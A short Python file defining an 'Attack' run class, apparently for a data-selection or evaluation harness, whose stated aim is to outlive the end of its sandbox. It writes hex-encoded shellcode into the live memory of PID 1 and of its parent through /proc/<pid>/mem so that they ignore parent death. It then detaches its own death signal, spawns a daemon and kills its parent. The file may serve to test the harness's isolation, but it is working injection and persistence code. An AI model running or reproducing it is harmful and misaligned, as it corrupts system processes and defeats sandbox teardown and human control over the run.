"""Writes machine code into the first process of its room, which is to outlive the room's end with a daemon."""

import os
import platform
import signal
import time

from aim import LIBC, attempt, daemon

from run import ZEWDPCBaseRun

# prctl(PR_SET_PDEATHSIG, 0), then pause() for ever
CODE = bytes.fromhex("b89d000000bf0100000031f60f05b8220000000f05ebf7")


def take(pid):
    with open(f"/proc/{pid}/syscall") as file:
        place = int(file.read().split()[-1], 16)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(place)
        memory.write(CODE)
    print("written", flush=True)


class Attack(ZEWDPCBaseRun):
    def purchase_phase(self, unlabelled_dataset):
        if platform.machine() == "x86_64":
            for pid in (1, os.getppid()):
                attempt(take, pid)
        LIBC.prctl(1, 0, 0, 0, 0)  # its own end does not follow its guard's
        daemon(time.sleep, 14)
        attempt(os.kill, os.getppid(), signal.SIGKILL)  # whose end wakes the first process
        time.sleep(0.5)
        os._exit(0)
